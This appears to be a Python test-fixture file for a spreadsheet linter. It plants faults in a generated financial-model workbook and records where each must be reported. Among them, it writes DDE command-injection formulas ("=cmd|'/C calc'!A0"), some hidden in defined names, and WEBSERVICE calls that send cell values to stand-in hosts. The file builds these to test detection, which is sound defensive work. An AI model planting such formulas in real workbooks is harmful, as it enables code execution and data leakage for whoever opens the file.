"""Faults planted in the clean model: for each rule at least two, each with the place where it must be found."""

from __future__ import annotations

import zipfile
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from openpyxl import Workbook
from openpyxl.chart import LineChart, Reference
from openpyxl.formatting.rule import FormulaRule, IconSetRule
from openpyxl.styles import Alignment, Font, PatternFill
from openpyxl.utils.datetime import CALENDAR_MAC_1904
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation
from openpyxl.worksheet.formula import ArrayFormula

from lint_model import (
    BLACK,
    BLUE,
    COUNT,
    GREEN,
    MONEY,
    PERCENT,
    RED,
    STAFF,
    clean_model,
    dress,
    formulas,
    header,
    line,
    mark,
    put,
    write,
)
from xlipo.sheetkit.cells import Formula

Place = str
"""As the lint prints it: "Model!C8", "Model" for a sheet, "file"."""


@dataclass(frozen=True)
class Fault:
    """A fault: what makes it, in the workbook or in a part of the written file, and where it must be found."""

    rule: str
    places: tuple[Place, ...]
    make: Callable[[Workbook], object]
    swap: tuple[str, str, str] | None = None
    """Part, text and its replacement: what openpyxl cannot write."""

    def file(self, path: Path) -> Path:
        book = clean_model()
        self.make(book)
        if self.rule != "line-without-label":
            label_new_lines(book)
        write(book, path)
        return swapped(path, *self.swap) if self.swap else path


def label_new_lines(book: Workbook) -> None:
    """Give every line that a fault has added a label, so that the fault breaks only its own rule."""
    for sheet in book:
        for row in sheet.iter_rows(min_row=4):
            figures = [cell for cell in row if cell.value is not None and not isinstance(cell.value, str)]
            if figures and figures[0].column > 1 and row[0].value is None:
                put(sheet, f"A{row[0].row}", f"Line {row[0].row}")


def swapped(path: Path, part: str, old: str, new: str) -> Path:
    """The file with a text replaced in one of its parts; the text must be there."""
    with zipfile.ZipFile(path) as package:
        parts = {name: package.read(name) for name in package.namelist()}
    name = next(name for name in parts if name.endswith(part))
    held = parts[name].decode()
    assert old in held, f"{part} does not hold {old}"
    parts[name] = held.replace(old, new, 1).encode()
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as package:
        for each, data in parts.items():
            package.writestr(each, data)
    return path


FAULTS: list[Fault] = []
LONG_LABEL = "Cost of sales with all that belongs to it, and more"
LONG_CHINESE = "员工人数（含外包、实习与兼职人员，按期末口径统计）"


def fault(rule: str, *places: Place, swap: tuple[str, str, str] | None = None) -> Callable[[Any], Any]:
    def enter(make: Callable[[Workbook], object]) -> Callable[[Workbook], object]:
        FAULTS.append(Fault(rule, places, make, swap))
        return make

    return enter


def inject(rule: str, places: str, by: Callable[[Workbook], object], swap: tuple[str, str, str] | None = None) -> None:
    """Fault a fault that is found at these places, with spaces between them."""
    FAULTS.append(Fault(rule, tuple(places.split()), by, swap))


def cell(rule: str, place: str, value: Any, colour: str = BLACK, shown: str = MONEY, at: str | None = None) -> None:
    """Fault a value in one cell; it is found there, or where ``at`` says."""
    sheet, address = place.split("!")
    inject(rule, at or place, lambda book: put(book[sheet], address, value, colour, shown))


def new_line(rule: str, label: str, pattern: str, place: str, colour: str = BLACK, unit: str = "USD m") -> None:
    """Fault a line of five equal formulas in row 16 of the model."""
    inject(rule, place, lambda book: line(book["Model"], 16, label, unit, formulas(pattern, [1.0] * 5), colour))


# ---- formulas ------------------------------------------------------------------------------------------------------

cell("inconsistent-formula", "Model!E12", Formula("=D12+E8+E7", 1.0))
cell("inconsistent-formula", "Model!F13", 0.6, BLUE)
cell("inconsistent-formula", "Model!G14", Formula("=G8*(1+G9)", 1.0))


@fault("inconsistent-formula", "Model!H9")
def _column_of_a_table(book: Workbook) -> None:
    sheet = book["Model"]
    sheet.tables["Model"].ref = "A5:H9"
    put(sheet, "H5", "Latest").fill = PatternFill("solid", fgColor="FFFFFF")
    for row in (6, 7, 8):
        put(sheet, f"H{row}", Formula(f"=G{row}", 1.0), BLACK, MONEY)
    put(sheet, "H9", 0.5, BLUE, MONEY)


new_line("number-in-formula", "Taxed", "={c}8*0.75", "Model!C16:G16")
new_line("number-in-formula", "Grown", "={c}8*(1+5%)", "Model!C16:G16")
cell("number-in-formula", "Model!C16", Formula("=SUM(C8:E8)+1.5E3", 1.0), at="Model!C16")
new_line("nested-if", "Tiers", "=IF({c}6>0,IF({c}7>0,IF({c}8>0,1,0),0),0)", "Model!C16:G16")
cell("nested-if", "Model!D16", Formula("=IF(D6>0,1,IF(D7>0,1,SUM(IF(D8>0,1,0))))", 1.0))
cell("long-formula", "Model!C16", Formula("=" + "+".join(f"C{row}" for row in (6, 7, 8) * 25), 1.0))
cell("long-formula", "Model!G16", Formula("=SUM(" + ",".join(["Inputs!$C$6:$G$6"] * 12) + ")", 1.0), GREEN)
cell("volatile-function", "Model!A16", Formula('="Printed "&TEXT(NOW(),"yyyy")', "Printed 2025"))
cell("volatile-function", "Cover!B5", Formula("=TODAY()", 46000.0), BLACK, "yyyy-mm-dd")
cell("volatile-function", "Model!C16", Formula("=C8*RAND()", 1.0))
cell("untraceable-reference", "Model!C16", Formula("=SUM(OFFSET(C8,0,0,1,1))", 40.0))
cell("untraceable-reference", "Model!D16", Formula('=INDIRECT("D"&ROW(D8))', 50.0))
new_line("npv", "Worth", "=NPV($B$30,{c}8:$G$8)", "Model!C16:G16")
cell("npv", "Model!C16", Formula("=C8+NPV(Inputs!C6,C8:G8)", 1.0), GREEN)
cell("missing-value", "Model!C16", Formula("=C8+C7", None))
cell("missing-value", "Model!D12", Formula("=C12+D8", None))
cell("malformed-formula", "Model!C16", Formula("=SUM(C8:G8", None), at="Model!C16")
cell("malformed-formula", "Model!D16", Formula('=D8&"', None))
cell("missing-prefix", "Model!C16", Formula("=STDEV.S(C8:G8)", 1.0))
cell("missing-prefix", "Model!D16", Formula("=IFNA(D8,0)", 1.0))
cell("newer-function", "Model!C16", Formula("=_xlfn.XLOOKUP(C5,C5:G5,C8:G8)", 1.0))
cell("newer-function", "Model!D16", Formula('=_xlfn.TEXTJOIN(", ",TRUE,C5:G5)', "FY2020"))
cell("newer-function", "Model!E16", Formula("=_xlfn.MAXIFS(C8:G8,C7:G7,E7)", 1.0))
cell("unknown-function", "Model!C16", Formula("=SUMM(C8:G8)", 1.0))
cell("unknown-function", "Model!D16", Formula("=BDP(D5)", 1.0))
new_line("repeated-formula", "Gross profit again", "={c}6-{c}7", "Model!C16:G16")


@fault("repeated-formula", "Checks!C7")
def _again_on_another_sheet(book: Workbook) -> None:
    put(book["Inputs"], "C12", Formula("=Model!G12-SUM(Model!$C$8:$G$8)", 1.0), GREEN, MONEY)
    put(book["Checks"], "C7", Formula("=Model!G12-SUM(Model!C8:G8)", 1.0), GREEN, MONEY)


# ---- references ----------------------------------------------------------------------------------------------------

cell("circular-reference", "Model!C16", Formula("=SUM(C8:C16)", 0.0))


@fault("circular-reference", "Model!C16:D16")
def _round_a_corner(book: Workbook) -> None:
    put(book["Model"], "C16", Formula("=D16", 0.0), BLACK, MONEY)
    put(book["Model"], "D16", Formula("=D8+SUM(B16:C16)", 0.0), BLACK, MONEY)


@fault("circular-reference", "Inputs!C12", "Model!C16")
def _over_two_sheets_and_a_name(book: Workbook) -> None:
    book.defined_names["rate"] = DefinedName("rate", attr_text="Inputs!$C$12")
    put(book["Model"], "C16", Formula("=C8*rate", 0.0), BLACK, MONEY)
    put(book["Inputs"], "C12", Formula("=Model!C16", 0.0), GREEN, MONEY)


cell("external-link", "Model!C16", Formula("='[budget.xlsx]Plan'!C8", 1.0))
cell("external-link", "Model!D16", Formula("=D8+[1]Plan!$D$8", 1.0))


@fault("external-link", "file")
def _name_of_another_file(book: Workbook) -> None:
    book.defined_names["plan"] = DefinedName("plan", attr_text="[1]Plan!$A$1")


cell("outside-call", "Model!C16", Formula("=cmd|'/C calc'!A0", 0.0))
cell("outside-call", "Model!D16", Formula('=_xlfn.WEBSERVICE("https://example.com/"&A6)', "ok"))


@fault("outside-call", "Model!C16", "file")
def _call_in_a_name(book: Workbook) -> None:
    """Where such calls are hidden."""
    book.defined_names["Quote"] = DefinedName("Quote", attr_text='_xlfn.WEBSERVICE("http://x.example/"&Inputs!$C$6)')
    put(book["Model"], "C16", Formula("=C8*Quote", 1.0), BLACK, MONEY)


@fault("outside-call", "Model!C16", "Model", "file")
def _call_in_a_name_of_one_sheet_by_another_name(book: Workbook) -> None:
    book["Model"].defined_names["Tool"] = DefinedName("Tool", attr_text="cmd|'/c calc'!A0")
    book.defined_names["Other"] = DefinedName("Other", attr_text="Inputs!$C$6+RTD(1,2)")
    put(book["Model"], "C16", Formula("=C8*Tool", 1.0), BLACK, MONEY)


@fault("external-link", "Model!C16", "Model")
def _other_file_in_a_name_of_one_sheet(book: Workbook) -> None:
    book["Model"].defined_names["plan"] = DefinedName("plan", attr_text="[1]Plan!$A$1")
    put(book["Model"], "C16", Formula("=C8*plan", 1.0), BLACK, MONEY)


CHART = "charts/chart1.xml"
SERIES = "'Model'!$C$6:$G$6"
inject("external-link", "Model!A20", lambda book: None, (CHART, SERIES, "[1]Plan!$C$6:$G$6"))
inject("lost-reference", "Model!A20", lambda book: None, (CHART, SERIES, "#REF!$C$6:$G$6"))


@fault("lost-reference", "Model!C12")
def _condition_without_its_cells(book: Workbook) -> None:
    book["Model"].conditional_formatting.add("C12:G12", FormulaRule(["$C12>#REF!"]))


@fault("lost-reference", "Model!D12")
def _list_of_a_sheet_that_is_gone(book: Workbook) -> None:
    choice = DataValidation(type="list", formula1="Lists!$A$1:$A$9")
    choice.add("D12:E12")
    book["Model"].add_data_validation(choice)


X14 = (
    '<extLst><ext xmlns:x14="http://schemas.microsoft.com/office/spreadsheetml/2009/9/main" '
    'uri="{78C0D931-6437-407d-A8EE-F0AAD7539E65}"><x14:conditionalFormattings><x14:conditionalFormatting '
    'xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"><x14:cfRule type="expression">'
    "<xm:f>#REF!&gt;1</xm:f></x14:cfRule><xm:sqref>F12:G12</xm:sqref></x14:conditionalFormatting></x14:conditionalFormattings></ext></extLst>"
    "</worksheet>"
)
inject("lost-reference", "Model!F12", lambda book: None, ("worksheets/sheet3.xml", "</worksheet>", X14))
cell("lost-reference", "Model!C16", Formula("=C8+#REF!", 1.0))
cell("lost-reference", "Model!D16", Formula("=Plan!D8", 1.0), GREEN)


@fault("lost-reference", "file")
def _lost_name(book: Workbook) -> None:
    book.defined_names["gone"] = DefinedName("gone", attr_text="Inputs!#REF!")


# ---- let pass: what looks like a fault and is none ------------------------------------------------------------------


def harmless(rule: str, by: Callable[[Workbook], object]) -> None:
    inject(rule, "", by)


def line_of(*texts: str | float) -> Callable[[Workbook], object]:
    """A line more on the sheet Model, of formulas and of numbers typed in."""
    cells = [Formula(text, 1.0) if isinstance(text, str) else text for text in texts]

    def add(book: Workbook) -> None:
        line(book["Model"], 16, "New line", "USD m", cells)
        for column, value in zip("CDEFG", texts, strict=False):
            if not isinstance(value, str):
                put(book["Model"], f"{column}16", value, BLUE, MONEY)

    return add


harmless("inconsistent-formula", line_of("=C6-C8", "=D6-D8", "=E7*E9", "=F7*F9", "=G7*G9"))  # history, then forecast
harmless("inconsistent-formula", line_of("=C6*C9", "=D6*D9", "=E6*E9", "=F7+F8", "=G7+G8"))
harmless("inconsistent-formula", line_of(5.0, 6.0, "=E7*E9", "=F7*F9", "=G7*G9"))
harmless("inconsistent-formula", line_of("=C6*$G$9", "=D6*$G$9", "=E6*G9", "=F6*$G$9", "=G6*$G$9"))
harmless("inconsistent-formula", line_of("=C6*C9", "=D9*D6", "=E6*E9", "=F6*F9", "=G6*G9"))
harmless("reads-ahead", line_of("=D16-$C$9", "=E16-$C$9", "=E6*E9", "=E16+$C$9", "=F16+$C$9"))  # the axis of a grid


cell("error-value", "Model!C16", Formula("=C8/C17", "#DIV/0!"))
cell("error-value", "Model!D16", "#N/A", BLUE)
cell("reads-ahead", "Model!C11", Formula("=C8+C12", 1.0))


@fault("reads-ahead", "Model!C16")
def _to_the_right(book: Workbook) -> None:
    put(book["Model"], "A16", "Share of the last")
    put(book["Model"], "E16", Formula("=E8/G8", 1.0), BLACK, MONEY)
    put(book["Model"], "C16", Formula("=C8*E16", 1.0), BLACK, MONEY)


# ---- calculation ---------------------------------------------------------------------------------------------------


def calculated(**how: Any) -> Callable[[Workbook], object]:
    return lambda book: [setattr(book.calculation, name, value) for name, value in how.items()]


WORKBOOK = "xl/workbook.xml"
inject("manual-calculation", "file", calculated(calcMode="manual"))
inject("manual-calculation", "file", calculated(calcMode="manual", calcOnSave=False))
inject("iterative-calculation", "file", calculated(iterate=True))
inject(
    "iterative-calculation",
    "file",
    calculated(iterate=True, iterateCount=3),
    (WORKBOOK, 'iterate="1"', 'iterate="true"'),
)
inject("precision-as-displayed", "file", calculated(fullPrecision=False))
inject(
    "precision-as-displayed",
    "file",
    calculated(fullPrecision=False),
    (WORKBOOK, 'fullPrecision="0"', 'fullPrecision="false"'),
)
inject("date-system-1904", "file", lambda book: setattr(book, "epoch", CALENDAR_MAC_1904))
inject("date-system-1904", "file", lambda book: None, (WORKBOOK, "<workbookPr", '<workbookPr date1904="true"'))

# ---- structure -----------------------------------------------------------------------------------------------------

inject("merged-cells", "Cover!A12", lambda book: book["Cover"].merge_cells("A12:C12"))
inject("merged-cells", "Model!C16", lambda book: book["Model"].merge_cells("C16:C18"))
inject("hidden-sheet", "Inputs", lambda book: setattr(book["Inputs"], "sheet_state", "hidden"))
inject("hidden-sheet", "Checks", lambda book: setattr(book["Checks"], "sheet_state", "veryHidden"))
inject("hidden-row", "Inputs!A7", lambda book: setattr(book["Inputs"].row_dimensions[7], "hidden", True))
inject("hidden-row", "Model!A12:A13", lambda book: book["Model"].row_dimensions.group(12, 13, hidden=True))
inject("hidden-column", "Inputs!D1", lambda book: setattr(book["Inputs"].column_dimensions["D"], "hidden", True))
inject("hidden-column", "Model!B1", lambda book: setattr(book["Model"].column_dimensions["B"], "hidden", True))


def sheet_named(title: str) -> Callable[[Workbook], object]:
    return lambda book: dress(book.create_sheet(title), "Notes")


for title in ("Sheet1", "Tabelle2", "工作表1"):
    inject("default-sheet-name", title, sheet_named(title))
inject("sheet-title", "Inputs!A1", lambda book: put(book["Inputs"], "A1", None))
inject("sheet-title", "Model!A1", lambda book: put(book["Model"], "A1", True))

# ---- tables --------------------------------------------------------------------------------------------------------


@fault("unmarked-table", "Inputs!A12")
def _a_block_with_a_header(book: Workbook) -> None:
    header(book["Inputs"], 12)
    for row, label in ((13, "Tax"), (14, "Interest"), (15, "Rent")):
        line(book["Inputs"], row, label, "USD m", REVENUE_LIKE, BLUE)


REVENUE_LIKE = (1.0, 2.0, 3.0, 4.0, 5.0)
inject("unmarked-table", "Inputs!A5", lambda book: book["Inputs"].tables.pop("Inputs"))
inject("unmarked-table", "Model!A5", lambda book: book["Model"].tables.pop("Model"))
TABLE = "tables/table1.xml"
inject("table-header", "Inputs!A5", lambda book: None, (TABLE, 'headerRowCount="1"', 'headerRowCount="0"'))
inject("table-header", "Inputs!E5", lambda book: None, (TABLE, 'name="FY2022"', 'name="FY2032"'))
inject("column-name", "Inputs!D5:E5", lambda book: put(book["Inputs"], "E5", "FY2021", "FFFFFF"))
inject("column-name", "Inputs!A5", lambda book: put(book["Inputs"], "A5", "Column1", "FFFFFF"))


def gap_in(row: int, area: str) -> Callable[[Workbook], object]:
    def make(book: Workbook) -> None:
        book["Inputs"].tables["Inputs"].ref = area
        if row < 9:
            line(book["Inputs"], 9, "Patents", "number", (5.0,) * 5, BLUE, COUNT)
            for column in "ABCDEFG":
                book["Inputs"][f"{column}{row}"].value = None

    return make


inject("blank-row-in-table", "Inputs!A9", gap_in(9, "A5:G9"))
inject("blank-row-in-table", "Inputs!A9:A10", gap_in(9, "A5:G10"))


def words_among_figures(*rows: int) -> Callable[[Workbook], object]:
    def make(book: Workbook) -> None:
        sheet = book["Inputs"]
        put(sheet, "A12", "Person")
        put(sheet, "B12", "Hours")
        for row in range(13, 43):
            put(sheet, f"A{row}", f"Person {row}")
            put(sheet, f"B{row}", "not counted" if row in rows else float(row), BLUE, COUNT)
        mark(sheet, "Hours", "A12:B42")

    return make


inject("mixed-column", "Inputs!B20", words_among_figures(20))
inject("mixed-column", "Inputs!B14 Inputs!B30", words_among_figures(14, 30))

# ---- lines and checks ----------------------------------------------------------------------------------------------

inject(
    "line-without-label", "Model!C16", lambda book: line(book["Model"], 16, "", "", formulas("={c}8*{c}9", [1.0] * 5))
)
cell("line-without-label", "Inputs!D12", 0.25, BLUE, "0.0%")
inject("line-without-label", "Inputs!C7", lambda book: unlabelled(book["Inputs"], 7))


def unlabelled(sheet: Any, row: int) -> None:
    sheet[f"A{row}"].value = sheet[f"B{row}"].value = None


inject("duplicate-label", "Inputs!A7", lambda book: line(book["Inputs"], 7, "Revenue", "USD m", ()))
inject("duplicate-label", "Model!A13", lambda book: line(book["Model"], 13, "profit to date", "USD m", ()))


def listed_twice(rows: int, again: int, *after: str) -> Callable[[Workbook], object]:
    """A marked table of lines, two of one label; after the figures of each line stands a text of its own, or none."""

    def make(book: Workbook) -> None:
        sheet = book["Inputs"]
        header(sheet, 11, *after)
        for at in range(rows):
            row = 12 + at
            line(sheet, row, f"Site {1 if at == again else at + 1}", "heads", STAFF, BLUE, COUNT)
            for text in after:
                put(sheet, f"H{row}", f"{text} {at}")
        mark(sheet, "Sites", f"A11:{'H' if after else 'G'}{11 + rows}")

    return make


inject("duplicate-label", "Inputs!A15", listed_twice(4, 3))
inject("duplicate-label", "Inputs!A15", listed_twice(4, 3, "Page"))  # each line with its own page
inject("duplicate-label", "Inputs!A131", listed_twice(120, 119))  # as long as it may be


def without_unit(sheet: str, row: int) -> Callable[[Workbook], object]:
    def make(book: Workbook) -> None:
        put(book[sheet], "A2", "As told by the company")
        put(book[sheet], "A16", "Backlog")
        for column, value in zip("CDE", (1.0, 2.0, 3.0), strict=True):
            put(book[sheet], f"{column}{row}", value, BLUE, COUNT)

    return make


inject("line-without-unit", "Inputs!C16", without_unit("Inputs", 16))
inject("line-without-unit", "Inputs!B16", lambda book: one_input(book["Inputs"]))
inject("line-without-unit", "Inputs!C7", lambda book: no_unit_in_table(book["Inputs"]))


def one_input(sheet: Any) -> None:
    put(sheet, "A2", "As told by the company")
    put(sheet, "A16", "Backlog")
    put(sheet, "B16", 12.0, BLUE, COUNT)


def no_unit_in_table(sheet: Any) -> None:
    put(sheet, "A2", "As told by the company")
    put(sheet, "A7", "Backlog")
    sheet["B7"].value = None
    for column in "CDEFG":
        sheet[f"{column}7"].number_format = COUNT


inject("inputs-without-source", "Inputs!C6:C8", lambda book: put(book["Inputs"], "A3", "Audited"))
inject("inputs-without-source", "Model!C16", lambda book: line(book["Model"], 16, "Price", "USD", (1.0, 2.0), BLUE))
inject(
    "master-check",
    "Checks!C7",
    lambda book: put(book["Cover"], "B4", Formula('=IF(Checks!C6=0,"all pass","a check fails")', "all pass"), "2E7D4F"),
)


@fault("master-check", "Checks!C6:C7")
def _no_master_at_all(book: Workbook) -> None:
    put(book["Cover"], "A4", None)
    put(book["Cover"], "B4", None)


@fault("master-check", "Checks!C8")
def _a_check_left_out(book: Workbook) -> None:
    put(book["Checks"], "A8", "Check: staff is not negative")
    put(book["Checks"], "C8", Formula("=MIN(0,MIN(Inputs!C8:G8))", 0.0), GREEN, MONEY)


# ---- colours -------------------------------------------------------------------------------------------------------

inject("input-colour", "Inputs!D7", lambda book: put(book["Inputs"], "D7", 70.0, BLACK, MONEY))
inject("input-colour", "Inputs!C8:E8", lambda book: line(book["Inputs"], 8, "Staff", "heads", STAFF_3))
inject("input-colour", "Inputs!D13", lambda book: among_blue(book["Inputs"]))


def among_blue(sheet: Any) -> None:
    """Inputs that nothing reads yet: the colour of the others tells."""
    line(sheet, 13, "Tax", "USD m", (1.0, 2.0, 3.0), BLUE)
    sheet["D13"].font = Font("Arial", 10, color=BLACK)


STAFF_3 = (200.0, 220.0, 260.0)
cell("formula-colour", "Model!C8", Formula("=C6-C7", 40.0), BLUE)
cell("formula-colour", "Model!D12", Formula("=C12+D8", 90.0), GREEN)
cell("formula-colour", "Model!E12", Formula("=D12+E8", 160.0), RED)
cell("link-colour", "Model!C6", Formula("=Inputs!C6", 100.0), BLACK)
cell("link-colour", "Model!D13", Formula("=D6/Inputs!D8", 0.5), BLACK)
ASKED = '=IPO_METRIC("MiniMax","revenue",{}5)'
cell("function-colour", "Model!C16", Formula(ASKED.format("C"), 1.0), BLACK)
cell("function-colour", "Model!D16", Formula(ASKED.format("D"), 1.0), GREEN)
inject("colour-legend", "Cover", lambda book: put(book["Cover"], "A7", "Typed", BLUE))
inject("colour-legend", "Cover", lambda book: put(book["Cover"], "A7", "Input", BLACK))


@fault("colour-alone", "Model!B17:B18")
def _signals(book: Workbook) -> None:
    book["Model"]["B17"].fill = PatternFill("solid", fgColor="FF0000")
    book["Model"]["B18"].fill = PatternFill("solid", fgColor="00B050")


@fault("colour-alone", "Model!C9")
def _traffic_lights(book: Workbook) -> None:
    lights = IconSetRule("3TrafficLights1", "num", [0, 1, 2], showValue=False)
    book["Model"].conditional_formatting.add("C9:G9", lights)


inject("contrast", "Cover!A12", lambda book: put(book["Cover"], "A12", "Quiet words", "AAAAAA"))


@fault("contrast", "Inputs!A3")
def _on_a_ground(book: Workbook) -> None:
    book["Inputs"]["A3"].fill = PatternFill("solid", fgColor="FF5050")
    book["Inputs"]["A3"].font = Font("Arial", 10, color="FFFFFF")


@fault("contrast", "Model!C12")
def _when_it_is_large(book: Workbook) -> None:
    warm = FormulaRule(["C12>0"], font=Font(color="FFFF00"), fill=PatternFill(bgColor="FFFFFF", fill_type="solid"))
    book["Model"].conditional_formatting.add("C12:G12", warm)


GRID = '=IPO_SERIES("MiniMax","revenue")'


def grid_of_texts(formula: str) -> Callable[[Workbook], object]:
    """Three periods that an array formula fills below the model, and a count of one of them."""

    def make(book: Workbook) -> None:
        sheet = book["Model"]
        for row in (18, 19, 20):
            put(sheet, f"B{row}", "H1-2026", RED)
        sheet["B18"] = ArrayFormula("B18:B20", GRID)
        put(sheet, "C18", Formula(formula, 0.0), shown=COUNT)

    return make


FILLED = ("sheet3.xml", 'IPO_SERIES("MiniMax","revenue")</f>', 'IPO_SERIES("MiniMax","revenue")</f><v>1</v>')
inject("grid-text-compared", "Model!C18", grid_of_texts('=COUNTIF(B18:B20,"H1-2026")'), FILLED)
inject("grid-text-compared", "Model!C18", grid_of_texts('=IF(B19="H1-2026",1,0)'), FILLED)
inject("grid-text-compared", "Model!C18", grid_of_texts('=MATCH("H1-2026",B$18:B$20,0)'), FILLED)

# ---- numbers -------------------------------------------------------------------------------------------------------

cell("number-format", "Inputs!C7", 1234567.0, BLUE, "General")
cell("number-format", "Inputs!D7", 70.123456789, BLUE, "General")
cell("negative-format", "Inputs!C7", -60.0, BLUE, "#,##0.0")
cell("negative-format", "Inputs!D7", 70.0, BLUE, "#,##0.0;-#,##0.0")
cell("negative-format", "Inputs!E7", -0.5, BLUE, "0.0%")


@fault("year-as-number", "Inputs!C13:G13")
def _years_over_figures(book: Workbook) -> None:
    put(book["Inputs"], "A13", "Price list")
    for column, year in zip("CDEFG", range(2020, 2025), strict=True):
        put(book["Inputs"], f"{column}13", float(year))
    line(book["Inputs"], 14, "Price", "USD", REVENUE_LIKE, BLUE)


@fault("year-as-number", "Inputs!A13:A15")
def _years_in_a_column(book: Workbook) -> None:
    put(book["Inputs"], "A12", "Year")
    put(book["Inputs"], "B12", "Price, USD")
    for row in (13, 14, 15):
        put(book["Inputs"], f"A{row}", 2010.0 + row)
        put(book["Inputs"], f"B{row}", 1.5 * row, BLUE, MONEY)
    mark(book["Inputs"], "Prices", "A12:B15")


cell("number-as-text", "Inputs!D7", "70.5", BLUE)
cell("number-as-text", "Inputs!E8", "1,260", BLUE)
cell("number-as-text", "Inputs!F7", "(95)", BLUE)
for typed in (
    "1\u00a0234",
    "1\u202f234,5",
    "$1,234",
    "¥12",
    "1e5",
    "5-",
    "12,34",
    "1.234,56",
    "1'234.50",
    "１２３",
    "3.5亿元",
):
    cell("number-as-text", "Inputs!D7", typed, BLUE)

# ---- statistics ------------------------------------------------------------------------------------------------------


def peers(book: Workbook, statistic: str, figures: Sequence[float], periods: Sequence[str] = ()) -> None:
    """Companies below one another, each with a margin and perhaps its period, and a statistic of the margins."""
    sheet = book["Inputs"]
    put(sheet, "A30", "Company")
    put(sheet, "B30", "Margin")
    put(sheet, "C30", "Period")
    for row, figure in enumerate(figures, 31):
        put(sheet, f"A{row}", f"Peer {row}")
        put(sheet, f"B{row}", figure, BLUE, PERCENT)
        if periods:
            put(sheet, f"C{row}", periods[row - 31])
    last = 30 + len(figures)
    mark(sheet, "Peers", f"A30:C{last}")
    put(sheet, f"A{last + 2}", "Statistic")
    put(sheet, f"B{last + 2}", Formula(statistic.format(f"B31:B{last}"), 0.4), BLACK, PERCENT)


MARGINS, LIKE = (0.4, 0.5, 0.3, 0.2), ("FY2025", "LTM-2026-06-30", "CY2025", "FY2025")
inject("few-figures", "Inputs!B34", lambda book: peers(book, "=MEDIAN({})", MARGINS[:2], LIKE[:2]))
inject("few-figures", "Inputs!B34", lambda book: peers(book, "=AVERAGE({})", MARGINS[:2], LIKE[:2]))
inject("few-figures", "Inputs!B36", lambda book: peers(book, "=QUARTILE({},1)", MARGINS, LIKE))
inject(
    "mixed-periods",
    "Inputs!B36",
    lambda book: peers(book, "=MEDIAN({})", MARGINS, ("FY2025", "H1-2026", "FY2025", "LTM-2026-06-30")),
)
inject(
    "mixed-periods",
    "Inputs!B36",
    lambda book: peers(book, "=AVERAGE({})", MARGINS, ("9M2025", "FY2025", "FY2025", "FY2025 †")),
)


@fault("mixed-periods", "Inputs!E32")
def _growth_of_another_year(book: Workbook) -> None:
    sheet = book["Inputs"]
    for column, text in zip("ABCDE", ("Company", "Revenue", "Period", "Growth", "Growth period"), strict=True):
        put(sheet, f"{column}30", text)
    for row, growth in ((31, "FY2025"), (32, "FY2024"), (33, "FY2024 †")):
        put(sheet, f"A{row}", f"Peer {row}")
        put(sheet, f"B{row}", 40.0 + row, BLUE, MONEY)
        put(sheet, f"C{row}", "FY2025")
        put(sheet, f"D{row}", row / 100, BLUE, PERCENT)
        put(sheet, f"E{row}", growth)
    mark(sheet, "Peers", "A30:E33")


# ---- accessibility -------------------------------------------------------------------------------------------------

inject("alt-text", "Model!A20", lambda book: setattr(book["Model"]._charts[0], "alt_text", ""))
inject("alt-text", "Model!A20", lambda book: setattr(book["Model"]._charts[0], "alt_text", "long " * 31))


@fault("alt-text", "Inputs!C12")
def _another_chart(book: Workbook) -> None:
    chart = LineChart()
    chart.add_data(Reference(book["Inputs"], min_col=3, max_col=7, min_row=6), from_rows=True)
    book["Inputs"].add_chart(chart, "C12")


inject("document-title", "file", lambda book: setattr(book.properties, "title", None))
inject("document-title", "file", lambda book: setattr(book.properties, "title", "  "))
inject("document-language", "file", lambda book: setattr(book.properties, "language", None))
inject("document-language", "file", lambda book: setattr(book.properties, "language", ""))

# ---- print and view ------------------------------------------------------------------------------------------------


def on(*titles: str) -> Callable[[Callable[[Any], object]], Callable[[Workbook], object]]:
    """Do the same to some sheets."""
    return lambda change: lambda book: [change(book[title]) for title in titles]


def lengthen(sheet: Any) -> None:
    put(sheet, "A60", "The end.")


def unfrozen(sheet: Any) -> None:
    sheet.freeze_panes = None


def unrepeated(sheet: Any) -> None:
    sheet._print_rows = None


def loosen(sheet: Any) -> None:
    lengthen(sheet)
    sheet.freeze_panes = None


def untitled(sheet: Any) -> None:
    lengthen(sheet)
    sheet._print_rows = None  # openpyxl has no way to take them back


def paged(wide: int, high: int) -> Callable[[Any], None]:
    def change(sheet: Any) -> None:
        sheet.page_setup.fitToWidth, sheet.page_setup.fitToHeight = wide, high

    return change


def footed(left: str, right: str) -> Callable[[Any], None]:
    def change(sheet: Any) -> None:
        sheet.oddFooter.left.text, sheet.oddFooter.right.text = left, right

    return change


def cursor(place: str) -> Callable[[Any], None]:
    def change(sheet: Any) -> None:
        for selection in sheet.sheet_view.selection:
            selection.activeCell = selection.sqref = place

    return change


def upright(sheet: Any) -> None:
    sheet.page_setup.orientation = "portrait"


def undecided(sheet: Any) -> None:
    sheet.page_setup.orientation = None


def unfitted(sheet: Any) -> None:
    sheet.sheet_properties.pageSetUpPr.fitToPage = False


inject("print-landscape", "Inputs", on("Inputs")(upright))
inject("print-landscape", "Model Checks", on("Model", "Checks")(undecided))
inject("print-width", "Inputs", on("Inputs")(paged(2, 0)))
inject("print-width", "Model", on("Model")(unfitted))
inject("print-titles", "Inputs", on("Inputs")(untitled))
inject("print-titles", "Checks", on("Checks")(untitled))
inject("footer-date", "Inputs", on("Inputs")(footed("Inputs", "&P / &N")))
inject("footer-date", "Model", on("Model")(footed("&D", "&P / &N")))
inject("footer-page", "Inputs", on("Inputs")(footed("As of 2025-12-31", "Inputs")))
inject("footer-page", "Checks", on("Checks")(footed("As of 2025-12-31", "&N")))
inject("freeze-panes", "Inputs", on("Inputs")(loosen))
inject("freeze-panes", "Model", on("Model")(unfrozen))
inject("print-titles", "Model", on("Model")(unrepeated))
inject("freeze-panes", "Checks", on("Checks")(loosen))
inject("cursor-at-a1", "Inputs", on("Inputs")(cursor("D9")))
inject("cursor-at-a1", "file", lambda book: setattr(book, "active", 2))
inject("cursor-at-a1", "Checks", lambda book: setattr(book["Checks"].sheet_view.pane, "topLeftCell", "C40"))

# ---- widths and text -----------------------------------------------------------------------------------------------

cell("number-cut", "Inputs!C7", 123456789012.0, BLUE, "#,##0.00;(#,##0.00)")
inject("number-cut", "Inputs!D6:D8", lambda book: narrow(book["Inputs"]))


def narrow(sheet: Any) -> None:
    """Only the figures no longer fit: the header is wrapped."""
    sheet.column_dimensions["D"].width = 2
